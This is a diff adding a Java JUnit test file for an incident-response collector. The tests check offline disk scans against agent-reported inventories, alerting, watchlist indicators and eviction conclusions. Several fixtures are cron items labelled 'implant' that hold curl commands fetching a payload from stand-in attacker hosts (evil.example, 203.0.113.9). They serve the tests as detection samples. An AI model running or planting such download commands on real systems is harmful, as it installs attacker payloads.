@@ -1,0 +1,423 @@
+package bzh.vigie.collector;
+
+import static bzh.vigie.collector.store.Specimens.ANALYST;
+import static bzh.vigie.collector.store.Specimens.AURAY;
+import static bzh.vigie.collector.store.Specimens.CONCARNEAU;
+import static bzh.vigie.collector.store.Specimens.agent;
+import static bzh.vigie.collector.store.Specimens.minute;
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import bzh.vigie.collector.conclusion.Conclusion;
+import bzh.vigie.collector.conclusion.Criterion.Kind;
+import bzh.vigie.collector.conclusion.Criterion.State;
+import bzh.vigie.collector.conclusion.Facts;
+import bzh.vigie.collector.intel.Indicator;
+import bzh.vigie.collector.intel.Observable;
+import bzh.vigie.collector.intel.Tlp;
+import bzh.vigie.collector.store.Alerts.Alert;
+import bzh.vigie.collector.store.Alerts.Severity;
+import bzh.vigie.collector.store.Alerts.Status;
+import bzh.vigie.collector.store.Attestations.Answer;
+import bzh.vigie.collector.store.Attestations.Statement;
+import bzh.vigie.collector.store.IncidentId;
+import bzh.vigie.collector.store.Incidents.Interval;
+import bzh.vigie.collector.store.Scans;
+import bzh.vigie.collector.store.Scans.Scan;
+import bzh.vigie.collector.store.Scope;
+import bzh.vigie.collector.store.Specimens;
+import bzh.vigie.collector.store.Store;
+import bzh.vigie.collector.store.StoreException;
+import bzh.vigie.collector.store.sqlite.SqliteStore;
+import bzh.vigie.event.Item;
+import bzh.vigie.event.ItemFields;
+import bzh.vigie.event.LocationStatus;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.sql.Connection;
+import java.sql.DriverManager;
+import java.time.Instant;
+import java.time.InstantSource;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Optional;
+import java.util.Set;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** What is taken in of disks: kept, held against what the agent told, searched, and what may be concluded from it. */
+final class IncidentScanTest {
+    private static final Scope ALL = new Scope.All();
+    private static final IncidentId ID = new IncidentId("2026-001");
+    private static final Instant ENDED = minute(60);
+    private static final Instant NOW = minute(60 * 24 * 50);
+    private static final InstantSource TIME = InstantSource.fixed(NOW);
+    private static final String CRON = "linux.cron.d";
+    private static final String UNITS = "linux.systemd.system";
+
+    @TempDir
+    Path dir;
+
+    private Store store;
+
+    @BeforeEach
+    void anIncident() {
+        store = SqliteStore.open(new CollectorFolder(dir).state(), TIME);
+        store.change(s -> {
+            s.hosts().enrol(Specimens.host(1, AURAY));
+            s.hosts().enrol(Specimens.host(2, AURAY));
+            s.hosts().enrol(Specimens.host(3, CONCARNEAU));
+            s.incidents().open("rançongiciel", Set.of(AURAY), 30, ANALYST);
+            s.incidents()
+                    .eviction(
+                            ALL,
+                            ID,
+                            Optional.empty(),
+                            Optional.of(new Interval(minute(0), Optional.of(ENDED))),
+                            ANALYST);
+            for (Item item : List.of(item("backup", "rsync -a /srv"), item("mail", "mailq"))) {
+                s.inventories().put(agent(1), AURAY, item, 1, minute(70));
+            }
+            read(s, CRON, LocationStatus.State.READ);
+            read(s, UNITS, LocationStatus.State.READ);
+        });
+    }
+
+    @AfterEach
+    void close() {
+        store.close();
+    }
+
+    private static void read(Store.Session session, String location, LocationStatus.State state) {
+        session.inventories().read(agent(1), Specimens.read(location, Optional.empty(), state, 1, true), minute(70));
+    }
+
+    private static Item item(String name, String value) {
+        return Specimens.item(CRON, Optional.empty(), name, value, 0);
+    }
+
+    private static String line(Item item) {
+        JsonRow row = new JsonRow("item");
+        ItemFields.of(item).forEach((name, value) -> {
+            switch (value) {
+                case List<?> list ->
+                    row.put(name, list.stream().map(String::valueOf).toList());
+                case Boolean truth -> row.put(name, truth);
+                default -> row.put(name, String.valueOf(value));
+            }
+        });
+        return row.toString();
+    }
+
+    private static String place(String location, String status) {
+        return "{\"kind\":\"location\",\"location\":\"" + location + "\",\"status\":\"" + status + "\"}";
+    }
+
+    private static String summary(String reader, String os) {
+        return "{\"kind\":\"summary\",\"reader\":\"" + reader + "\",\"os\":\"" + os + "\",\"catalogue_version\":7}";
+    }
+
+    /** A disk with these items, both places read, by a system from other media. */
+    private Path disk(Item... items) throws IOException {
+        List<String> lines =
+                new ArrayList<>(Stream.of(items).map(IncidentScanTest::line).toList());
+        lines.addAll(List.of(place(CRON, "read"), place(UNITS, "read"), summary("offline", "linux")));
+        return file(lines);
+    }
+
+    private Path file(List<String> lines) throws IOException {
+        return Files.write(dir.resolve("disk.jsonl"), lines);
+    }
+
+    private CommandRun scan(String... arguments) {
+        return CommandRun.of(
+                new IncidentScanCommand(TIME),
+                dir,
+                Stream.concat(Stream.of("2026-001", "--lang", "fr"), Stream.of(arguments))
+                        .toList());
+    }
+
+    private CommandRun take(Path file, String... more) {
+        return scan(Stream.concat(
+                        Stream.of(
+                                "--import",
+                                file.toString(),
+                                "--as-of",
+                                minute(80).toString(),
+                                "--reason",
+                                "saisi"),
+                        Stream.of(more))
+                .toArray(String[]::new));
+    }
+
+    private CommandRun takeOfHost(Path file, String... more) {
+        return take(
+                file,
+                Stream.concat(Stream.of("--host", agent(1).text(), "--other-media"), Stream.of(more))
+                        .toArray(String[]::new));
+    }
+
+    private List<Alert> alerts() {
+        return store.read(s -> s.alerts().list(ALL, Optional.empty(), 100));
+    }
+
+    private void mark(String key, String... where) {
+        CommandRun marked = CommandRun.of(
+                new IncidentTombstoneCommand(TIME),
+                dir,
+                Stream.of(
+                                Stream.of("add", "2026-001", "--lang", "fr", "--reason", "vu"),
+                                Stream.of(where),
+                                Stream.of("--key", key))
+                        .flatMap(each -> each)
+                        .toList());
+        assertEquals(0, marked.code(), marked.err());
+    }
+
+    @Test
+    void whatTheAgentDidNotTellIsAHighFindingWithItsEvidence() throws IOException {
+        Item hidden = item("implant", "curl http://203.0.113.9/x");
+        CommandRun taken = takeOfHost(disk(hidden, item("backup", "rsync -a /srv --delete")));
+        assertEquals(0, taken.code(), taken.err());
+        assertTrue(
+                taken.out().contains("seulement sur le disque : 1  seulement dit par l'agent : 1  différents : 1"),
+                taken.out());
+        List<Alert> all = alerts();
+        Alert one = all.stream()
+                .filter(each -> each.rule().equals("vigie-item-not-shown"))
+                .findFirst()
+                .orElseThrow();
+        assertTrue(one.severity().compareTo(Severity.HIGH) >= 0);
+        assertEquals(hidden.key(), one.evidence().get("key"));
+        assertEquals("1", one.evidence().get(Scans.SCAN));
+        assertEquals(minute(80).toString(), one.evidence().get(Scans.AS_OF));
+        assertEquals(agent(1), one.host());
+        assertEquals(
+                Set.of("vigie-item-not-shown", "vigie-item-in-one-reading", "vigie-item-read-otherwise"),
+                Set.copyOf(all.stream().map(Alert::rule).toList()));
+        assertEquals(1, takeOfHost(dir.resolve("disk.jsonl")).code(), "the same file twice");
+        assertTrue(scan("--format", "jsonl").out().contains("\"only_on_disk\":1"));
+    }
+
+    /** What it came to know later counts no more than what it forgot: the disk is of its time. */
+    @Test
+    void theInventoryOfThatTimeIsCompared() throws IOException {
+        Path disk = disk(item("backup", "rsync -a /srv"), item("mail", "mailq"));
+        store.change(s -> s.inventories().put(agent(1), AURAY, item("later", "apt"), 1, minute(90)));
+        assertTrue(takeOfHost(disk).out().contains("seulement dit par l'agent : 0"));
+        assertEquals(List.of(), alerts());
+    }
+
+    @Test
+    void aPlaceThatOneCouldNotReadIsNamedAndNotCompared() throws IOException {
+        store.change(s -> read(s, UNITS, LocationStatus.State.UNREADABLE));
+        Path disk = file(List.of(
+                line(item("backup", "rsync -a /srv")),
+                line(Specimens.item(UNITS, Optional.empty(), "x", "x", 0)),
+                place(CRON, "partial"),
+                place(UNITS, "read"),
+                summary("offline", "linux")));
+        CommandRun taken = takeOfHost(disk);
+        assertTrue(taken.out().contains("emplacements non comparés : 2"), taken.out());
+        assertTrue(taken.out().contains("non comparé : " + CRON), taken.out());
+        assertEquals(List.of(), alerts());
+    }
+
+    @Test
+    void aFileThatIsNoWholeScanIsRefusedAndLinesAreCounted() throws IOException {
+        String good = line(item("backup", "rsync -a /srv"));
+        assertTrue(take(file(List.of(good)), "--name", "PC-42").err().contains("coupé"));
+        assertTrue(take(file(List.of(good, summary("offline", "linux"), good)), "--name", "PC-42")
+                .err()
+                .contains("coupé"));
+        assertTrue(take(file(List.of("rien")), "--name", "PC-42").err().contains("aucune ligne"));
+        assertTrue(take(file(List.of(good, summary("x", "linux"))), "--name", "PC-42")
+                .err()
+                .contains("lecteur"));
+        assertTrue(take(file(List.of(good, summary("live", "linux"))), "--name", "PC-42", "--other-media")
+                .err()
+                .contains("système en marche"));
+        assertTrue(takeOfHost(file(List.of(good, place(CRON, "read"), summary("offline", "windows"))))
+                .err()
+                .contains("autre système"));
+        assertEquals(1, take(disk(), "--host", agent(3).text()).code(), "a host of another commune");
+        assertEquals(
+                2, scan("--import", "x", "--name", "PC-42", "--reason", "r").code(), "of when it is");
+        assertEquals(List.of(), store.read(s -> s.scans().list(ALL, ID)));
+        CommandRun some = take(
+                file(List.of(
+                        "{\"kind\":\"item\"}",
+                        good,
+                        "[".repeat(2_000),
+                        "{\"kind\":\"item\",\u001b[2J",
+                        summary("offline", "linux"))),
+                "--name",
+                "PC-42");
+        assertEquals(0, some.code(), some.err());
+        assertTrue(some.err().contains("Lignes qui ne sont pas celles d'une analyse : 3"), some.err());
+        assertFalse(some.err().contains("\u001b"), some.err());
+    }
+
+    @Test
+    void theFileIsKeptAsItWasAndTakenBackByALine() throws Exception {
+        Path file = disk(item("backup", "rsync -a /srv"));
+        assertEquals(0, take(file, "--name", "PC-42").code());
+        Scan kept = store.read(s -> s.scans().list(ALL, ID)).getFirst();
+        assertArrayEquals(Files.readAllBytes(file), store.read(s -> s.scans().bytes(kept)));
+        assertEquals("7", kept.content().catalogue());
+        assertEquals(List.of(), store.read(s -> s.scans().list(new Scope.Communes(Set.of(CONCARNEAU)), ID)));
+        try (Connection connection = DriverManager.getConnection(
+                        "jdbc:sqlite:" + new CollectorFolder(dir).state().resolve(SqliteStore.FILE));
+                var statement = connection.createStatement()) {
+            assertThrows(Exception.class, () -> statement.executeUpdate("DELETE FROM disk_scan_part"));
+            statement.executeUpdate("DROP TRIGGER disk_scan_part_never_changes");
+            statement.executeUpdate("UPDATE disk_scan_part SET deflated = x'789c030000000001'");
+        }
+        assertThrows(StoreException.class, () -> store.read(s -> s.scans().bytes(kept)));
+        assertEquals(0, scan("--withdraw", "1", "--reason", "erreur").code());
+        assertEquals(1, scan("--withdraw", "1", "--reason", "erreur").code());
+        assertEquals(List.of(), store.read(s -> s.scans().standing(ALL)));
+        assertFalse(store.read(s -> s.scans().list(ALL, ID)).getFirst().standing());
+    }
+
+    /** In both orders: what is marked or added is looked for on disks that are there, and on those that come. */
+    @Test
+    void disksAreSearchedForMarksAndIndicators() throws IOException {
+        Item theirs = item("implant", "curl -fsSL http://evil.example/payload.sh --output /tmp/payload");
+        mark(item("backup", "rsync -a /srv").key(), "--host", agent(1).text());
+        assertEquals(
+                0,
+                take(disk(theirs, item("backup", "rsync -a /srv")), "--name", "PC-42")
+                        .code());
+        assertEquals(List.of("vigie-return"), alerts().stream().map(Alert::rule).toList());
+        assertEquals(Scans.idOf(AURAY, "PC-42"), alerts().getFirst().host());
+
+        mark(theirs.key(), "--scan", "1");
+        assertEquals(1, alerts().size(), "not where it is marked itself");
+        Path other = file(List.of(line(theirs), place(CRON, "read"), summary("offline", "linux")));
+        assertEquals(0, take(other, "--name", "PC-43").code());
+        assertEquals("PC-43", alerts().getFirst().hostname());
+        assertEquals("after", alerts().getFirst().evidence().get("eviction"));
+
+        Path list = Files.writeString(dir.resolve("list.txt"), "evil.example\n");
+        CommandRun added = CommandRun.of(
+                new IncidentWatchlistCommand(TIME),
+                dir,
+                List.of("import", list.toString(), "--incident", "2026-001", "--tlp", "amber", "--reason", "r"));
+        assertEquals(0, added.code(), added.err());
+        assertEquals(
+                Set.of("PC-42", "PC-43"),
+                Set.copyOf(alerts().stream()
+                        .filter(each -> each.rule().equals("vigie-indicator-seen"))
+                        .map(Alert::hostname)
+                        .toList()));
+        store.change(s -> s.indicators()
+                .add(
+                        Optional.of("2026-001"),
+                        List.of(indicator(theirs.sha256().orElseThrow().hex())),
+                        "t",
+                        ANALYST));
+        assertEquals(0, take(disk(theirs), "--name", "PC-44").code());
+        assertEquals(
+                2,
+                alerts().stream()
+                        .filter(each ->
+                                each.hostname().equals("PC-44") && each.rule().equals("vigie-indicator-seen"))
+                        .count());
+    }
+
+    private static Indicator indicator(String sha256) {
+        return new Indicator(
+                new Observable.Hash(Observable.Algorithm.SHA256, sha256),
+                "test",
+                "",
+                Tlp.GREEN,
+                80,
+                Optional.empty(),
+                Optional.empty(),
+                false,
+                true);
+    }
+
+    private List<String> objections() {
+        Conclusion conclusion = store.read(
+                s -> Conclusion.of(Facts.of(s, ALL, s.incidents().find(ALL, ID).orElseThrow(), NOW)));
+        return conclusion.criteria().stream()
+                .filter(each -> each.kind() == Kind.REBUILT_WHERE_PRIVILEGED && each.state() == State.NOT_MET)
+                .flatMap(each -> each.about().stream())
+                .toList();
+    }
+
+    private void attest(Statement statement, Answer answer) {
+        store.change(s -> s.attestations()
+                .attest(
+                        ALL,
+                        ID,
+                        statement,
+                        Optional.of(agent(1)),
+                        Optional.of(answer),
+                        "PV",
+                        Optional.empty(),
+                        ANALYST));
+    }
+
+    @Test
+    void onlyAFileShowsThatAScanAgrees() throws IOException {
+        attest(Statement.PRIVILEGED_CODE, Answer.YES);
+        assertEquals(List.of("pc-1"), objections());
+        attest(Statement.OFFLINE_SCAN_AGREES, Answer.YES);
+        assertEquals(List.of("pc-1  scan-without-file"), objections());
+
+        Item[] same = {item("backup", "rsync -a /srv"), item("mail", "mailq")};
+        assertEquals(0, take(disk(same), "--host", agent(1).text()).code());
+        assertEquals(List.of("pc-1  scan-by-its-own-system"), objections());
+        assertEquals(0, scan("--withdraw", "1", "--reason", "r").code());
+
+        assertEquals(
+                0,
+                scan(
+                                "--import",
+                                disk(same).toString(),
+                                "--host",
+                                agent(1).text(),
+                                "--other-media",
+                                "--as-of",
+                                minute(59).toString(),
+                                "--reason",
+                                "r")
+                        .code());
+        assertEquals(List.of("pc-1  scan-before-the-end"), objections());
+        assertEquals(0, scan("--withdraw", "2", "--reason", "r").code());
+
+        assertEquals(0, takeOfHost(disk(same)).code());
+        assertEquals(List.of(), objections());
+        attest(Statement.OFFLINE_SCAN_AGREES, Answer.NO);
+        assertEquals(List.of("pc-1  scan-denied"), objections());
+    }
+
+    @Test
+    void everyDifferenceIsClosedAndEveryPlaceComparedOrAttestedBeforeAScanAgrees() throws IOException {
+        attest(Statement.PRIVILEGED_CODE, Answer.YES);
+        Item hidden = item("implant", "curl http://203.0.113.9/x");
+        store.change(s -> read(s, UNITS, LocationStatus.State.PARTIAL));
+        assertEquals(
+                0,
+                takeOfHost(disk(item("backup", "rsync -a /srv"), item("mail", "mailq"), hidden))
+                        .code());
+        assertEquals(List.of("pc-1  scan-differs"), objections());
+        Alert alert = alerts().getFirst();
+        store.change(s -> s.alerts().status(ALL, alert.id(), Status.CLOSED, ANALYST));
+        assertEquals(List.of("pc-1  scan-not-whole"), objections());
+        attest(Statement.OFFLINE_SCAN_AGREES, Answer.YES);
+        assertEquals(List.of(), objections());
+        mark(hidden.key(), "--scan", "1");
+        assertEquals(List.of("pc-1  scan-differs"), objections());
+    }
+}
